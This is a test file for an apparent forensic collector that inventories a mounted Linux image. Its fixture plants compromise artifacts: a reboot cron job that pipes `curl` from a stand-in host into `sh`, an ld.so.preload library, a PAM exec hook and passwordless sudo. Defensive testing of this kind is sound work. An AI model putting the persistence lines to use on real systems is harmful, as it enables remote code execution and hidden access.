import { execFileSync } from 'node:child_process'
import { mkdirSync, symlinkSync, truncateSync, utimesSync, writeFileSync } from 'node:fs'
import { gzipSync } from 'node:zlib'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { folderWith } from '../inputs/samples/folder.ts'
import { makePipe, makeSocket } from '../inputs/samples/special-files.ts'
import { collected } from './samples/collected.ts'

const KEY = 'AAAAC3NzaC1lZDI1NTE5AAAAIHUzZWRfZm9yX3Rlc3RzX29ubHlfbm90X2FfcmVhbF9rZXk'

/** A small machine of which a bit of everything is there. */
const MACHINE = {
  'etc/hostname': 'web-1\n',
  'etc/machine-id': `${'ab'.repeat(16)}\n`,
  'etc/os-release': 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12"\n',
  'etc/passwd':
    'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nbroken line\n',
  'etc/shadow': 'root:$6$never$read:1::::::\n',
  'etc/group': 'sudo:x:27:www-data\n',
  'etc/sudoers': 'Defaults env_reset\nwww-data ALL=(ALL) NOPASSWD: ALL\n',
  'etc/hosts': '127.0.0.1 localhost\n203.0.113.9 pool.example.net # relay\n',
  'etc/resolv.conf': 'nameserver 192.0.2.53\nsearch example.org\n',
  'etc/ld.so.preload': '/usr/local/lib/hide.so # hush\n',
  'etc/crontab': 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n',
  'etc/cron.d/job':
    '@reboot www-data curl -H "Authorization: Bearer abcdef0123456789abcdef" http://192.0.2.1/x | sh\n',
  'var/spool/cron/crontabs/root': '*/5 * * * * /root/.x/up\n',
  'etc/systemd/system/x.service': '[Service]\nExecStart=/opt/x --a \\\n  --b\nUser=www-data\n',
  'etc/systemd/system/x.timer': '[Timer]\nOnCalendar=hourly\n',
  'etc/ssh/sshd_config':
    'Port 22\nPort 2222\nPermitRootLogin yes\nInclude /etc/ssh/sshd_config.d/*.conf\nMatch User x\nPasswordAuthentication yes\n',
  'etc/ssh/sshd_config.d/a.conf': 'PasswordAuthentication no\nPermitRootLogin no\n',
  'etc/pam.d/sshd': 'auth optional pam_exec.so /tmp/grab\nauth required pam_unix.so\n',
  'root/.bashrc': 'export TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789\nalias ll="ls -l"\n',
  'root/.ssh/authorized_keys': `# mine\ncommand="/bin/x" ssh-ed25519 ${KEY} ada@laptop\n`,
  'var/lib/dpkg/status':
    'Package: redis-server\nStatus: install ok installed\nArchitecture: amd64\nSource: redis (5:7.0)\nVersion: 5:7.0.15-1\nDescription: x\n more\n\nPackage: gone\nStatus: deinstall ok config-files\nVersion: 1\n',
  'lib/apk/db/installed': 'P:musl\nV:1.2.5-r0\nA:x86_64\no:musl\n\n',
  'var/lib/docker/containers/c1/config.v2.json': JSON.stringify({
    ID: 'c1',
    Name: '/job',
    State: { Running: true, Pid: 4711 },
    Config: { Image: 'registry.example.org/x:1', Env: ['PASSWORD=hunter2'], Cmd: ['run'] },
  }),
  'var/lib/docker/containers/c1/hostconfig.json': JSON.stringify({ Privileged: true, Binds: ['/:/host'] }),
  'var/log/auth.log':
    'May 12 03:14:07 web-1 sshd[1]: Accepted password for root from 203.0.113.9 port 1 ssh2\n',
  'var/log/auth.log.2.gz': gzipSync(
    'May 11 03:14:07 web-1 sshd[1]: Failed password for root from 203.0.113.9 port 1 ssh2\n',
  ),
  'var/log/audit/audit.log': 'type=LOGIN msg=audit(1778555647.000:1): pid=1\n',
  'var/log/btmp': 'binary',
}

test('reads a mounted image: what starts by itself, who may log in, what is installed', async () => {
  const facts = await collected({ root: folderWith(MACHINE) })
  expect(facts.collected.host).toBe('web-1')
  expect(facts.of('kernel')[0]).toMatchObject({ os: 'debian', osVersion: '12', release: null })
  expect(facts.of('user')).toEqual([
    { name: 'root', uid: 0, gid: 0, home: '/root', shell: '/bin/bash', groups: [], mayLogIn: true },
    expect.objectContaining({ name: 'www-data', groups: ['sudo'], mayLogIn: false }),
  ])
  expect(facts.of('sudo-rule')).toEqual([expect.objectContaining({ isWithoutPassword: true, line: 2 })])
  expect(facts.of('hosts-entry').map(({ address, names }) => [address, names])).toEqual([
    ['127.0.0.1', ['localhost']],
    ['203.0.113.9', ['pool.example.net']],
  ])
  expect(facts.of('resolver')[0]).toMatchObject({ nameservers: ['192.0.2.53'], search: ['example.org'] })
  expect(facts.of('preload')[0]).toMatchObject({ library: '/usr/local/lib/hide.so', isThere: false })
  expect(facts.of('cron-job').map(({ user, schedule, command }) => [user, schedule, command])).toEqual([
    ['root', '17 * * * *', 'cd / && run-parts /etc/cron.hourly'],
    ['www-data', '@reboot', expect.stringMatching(/^curl .*http:\/\/192\.0\.2\.1\/x \| sh$/u)],
    ['root', '*/5 * * * *', '/root/.x/up'],
  ])
  expect(facts.of('service')).toEqual([
    expect.objectContaining({
      name: 'x.service',
      starts: ['/opt/x --a    --b'],
      user: 'www-data',
      isEnabled: false,
    }),
  ])
  expect(facts.of('timer')).toEqual([expect.objectContaining({ schedule: ['OnCalendar=hourly'] })])
  expect(facts.of('sshd-config')[0]).toEqual({
    path: '/etc/ssh/sshd_config',
    values: { port: '22 2222', permitrootlogin: 'yes', passwordauthentication: 'no' },
    conditional: [{ match: 'User x', keyword: 'passwordauthentication', value: 'yes' }],
  })
  expect(facts.of('authorized-key')).toEqual([
    expect.objectContaining({
      user: 'root',
      keyType: 'ssh-ed25519',
      comment: 'ada@laptop',
      options: 'command="/bin/x"',
      fingerprint: expect.stringMatching(/^SHA256:[\w+/]{43}$/u),
    }),
  ])
  expect(facts.of('pam-rule')).toHaveLength(1)
  expect(facts.of('package').map(({ name, version, source }) => [name, version, source])).toEqual([
    ['redis-server', '5:7.0.15-1', 'redis'],
    ['musl', '1.2.5-r0', 'musl'],
  ])
  expect(facts.of('container')).toEqual([
    expect.objectContaining({
      isPrivileged: true,
      binds: ['/:/host'],
      environmentNames: ['PASSWORD'],
      pid: 4711,
    }),
  ])
  expect([...facts.members.keys()].filter((name) => name.startsWith('logs/')).toSorted()).toEqual([
    'logs/var/log/audit/audit.log',
    'logs/var/log/auth.log',
    'logs/var/log/auth.log.2.gz',
  ])
  expect(facts.members.get('logs/var/log/auth.log')).toBe(MACHINE['var/log/auth.log'])
})

test('of an image nothing is run and nothing of this machine gets in; no secret comes out', async () => {
  const facts = await collected({ root: folderWith(MACHINE) })
  expect(facts.of('process')).toEqual([])
  expect(facts.of('mount')).toEqual([])
  expect(facts.of('firewall')).toEqual([])
  const host = [...facts.members].filter(([name]) => name.startsWith('host/')).map(([, text]) => text)
  expect(host.join('\n')).not.toMatch(/hunter2|never\$read|ghp_abcdef|abcdef0123456789abcdef/u)
})

test('the manifest comes last and has the hash of every other member', async () => {
  const { members } = await collected({ root: folderWith(MACHINE) })
  const names = [...members.keys()]
  expect(names[0]).toBe('davylamp/about.json')
  expect(names.at(-1)).toBe('davylamp/manifest.json')
  const manifest = JSON.parse(members.get('davylamp/manifest.json') ?? '{}')
  expect(manifest.members.map(({ path }: { path: string }) => path)).toEqual(names.slice(0, -1))
})

test('an image made to trap the reader', async () => {
  const outside = folderWith({ secret: 'OUTSIDE' })
  const root = folderWith({ 'etc/hostname': '\u202e\n../../x', 'etc/passwd': 'x:x:0:0::/home/x:/bin/sh\n' })
  mkdirSync(join(root, 'tmp'))
  mkdirSync(join(root, 'home/x/.ssh'), { recursive: true })
  mkdirSync(join(root, 'etc/cron.d'))
  mkdirSync(join(root, 'var/log'), { recursive: true })
  symlinkSync(join(outside, 'secret'), join(root, 'home/x/.ssh/authorized_keys'))
  symlinkSync(outside, join(root, 'etc/ssh'))
  symlinkSync('loop', join(root, 'etc/loop'))
  symlinkSync('../../../../../../../../etc/passwd', join(root, 'etc/crontab'))
  symlinkSync('/', join(root, 'tmp/all'))
  for (const pipe of ['etc/hosts', 'etc/cron.d/pipe', 'var/log/auth.log', 'tmp/pipe'])
    makePipe(join(root, pipe))
  await makeSocket(join(root, 'etc/resolv.conf'))
  writeFileSync(join(root, 'var/log/syslog'), '')
  truncateSync(join(root, 'var/log/syslog'), 2 ** 33)
  writeFileSync(join(root, 'etc/sudoers'), '')
  truncateSync(join(root, 'etc/sudoers'), 2 ** 32)
  writeFileSync(join(root, 'tmp/a\nb\u202e\x1b[31m'), '#!/bin/sh\n', { mode: 0o755 })
  writeFileSync(Buffer.concat([Buffer.from(`${root}/tmp/`), Buffer.from([0xff, 0xfe, 0x80])]), '')
  let deep = join(root, 'tmp')
  for (let depth = 0; depth < 40; depth++) deep = join(deep, 'd')
  mkdirSync(deep, { recursive: true })
  writeFileSync(join(deep, 'bottom'), 'x')
  const facts = await collected({ root, maxMs: 60_000 })
  expect([...facts.members.values()].join('\n')).not.toContain('OUTSIDE')
  expect(facts.collected.host).toBe('localhost')
  const paths = facts.of('file').map(({ path }) => path)
  expect(paths).toContain('/tmp/a\nb\u202e\x1b[31m')
  expect(paths).toContain('/tmp/\ufffd\ufffd\ufffd')
  expect(paths).not.toContain('/tmp/pipe')
  expect(paths.some((path) => String(path).endsWith('bottom'))).toBe(false)
  expect(facts.members.get('logs/var/log/syslog')?.length).toBe(64 * 2 ** 20)
  expect(
    facts.collected.gaps.some(({ what, why }) => what === '/var/log/syslog' && why.includes('last 64 MiB')),
  ).toBe(true)
})

test('files changed lately are told, old ones are not, however many there are', async () => {
  const root = folderWith({ 'etc/old': 'x', 'etc/new': 'x', 'opt/tool': '#!/bin/sh\n' })
  const many = join(root, 'var/www/many')
  mkdirSync(many, { recursive: true })
  for (let at = 0; at < 3000; at++) writeFileSync(join(many, `f${at}`), '')
  const since = Date.now() + 3_600_000
  utimesSync(join(root, 'etc/new'), since / 1000 + 60, since / 1000 + 60)
  const facts = await collected({ root, since })
  expect(facts.of('file').map(({ path }) => path)).toEqual(['/etc/new'])
  expect(facts.collected.filesLookedAt).toBeGreaterThan(3000)
})

test('locked decoys are known without being opened', async () => {
  const root = folderWith({ 'tmp/kdevtmpfsi': '1\n' })
  const file = join(root, 'tmp/kdevtmpfsi')
  const isLocked = lock(file, '+i')
  if (!isLocked) return console.warn('chattr does not work here: the test of locked files is skipped')
  try {
    const facts = await collected({ root, since: Date.now() + 3_600_000 })
    expect(facts.of('file')).toEqual([
      expect.objectContaining({ path: '/tmp/kdevtmpfsi', isImmutable: true, sizeBytes: 2 }),
    ])
  } finally {
    lock(file, '-i')
  }
})

function lock(file: string, change: '+i' | '-i'): boolean {
  try {
    execFileSync('chattr', [change, file], { stdio: 'ignore' })
    return true
  } catch {
    return false
  }
}

test('without any time left it tells what it is, what starts by itself, and every place that it did not look at', async () => {
  const root = folderWith({ ...MACHINE, 'tmp/x': 'x', 'opt/x': 'x', 'var/log/auth.log': 'x'.repeat(100_000) })
  const facts = await collected({ root, maxMs: 1 })
  expect([...facts.members.keys()].at(-1)).toBe('davylamp/manifest.json')
  expect(facts.of('cron-job').length).toBeGreaterThan(0)
  expect(facts.of('file')).toEqual([])
  const gaps = facts.collected.gaps.map(({ what, why }) => `${what}: ${why}`).join('\n')
  expect(gaps).toMatch(/recently changed files in \/tmp, .*\/opt/u)
  expect(gaps).toContain('/var/log/auth.log: there was no time left for it')
  expect(facts.collected.logs).toBe(0)
})

test('its own work ends it as well', async () => {
  const root = folderWith({ 'tmp/x': '#!/bin/sh\n' })
  const facts = await collected({ root, maxMs: 60_000, maxCpuMs: 0 })
  expect(facts.collected.gaps.some(({ what }) => what.startsWith('recently changed files'))).toBe(true)
})

test('logins and the audit trail come before logs that are newer', async () => {
  const root = folderWith({ 'var/log/auth.log': 'a', 'var/log/syslog': 's', 'var/log/audit/audit.log': 'b' })
  const { members } = await collected({ root })
  const logs = [...members.keys()].filter((name) => name.startsWith('logs/'))
  expect(logs.at(-1)).toBe('logs/var/log/syslog')
  expect(logs).toHaveLength(3)
})

test('what lies on top of a folder is told before what lies deep in another', async () => {
  const root = folderWith({ 'tmp/a/b/deep': 'x', 'tmp/z': 'x' })
  const paths = (await collected({ root })).of('file').map(({ path }) => path)
  expect(paths).toEqual(['/tmp/z', '/tmp/a/b/deep'])
})
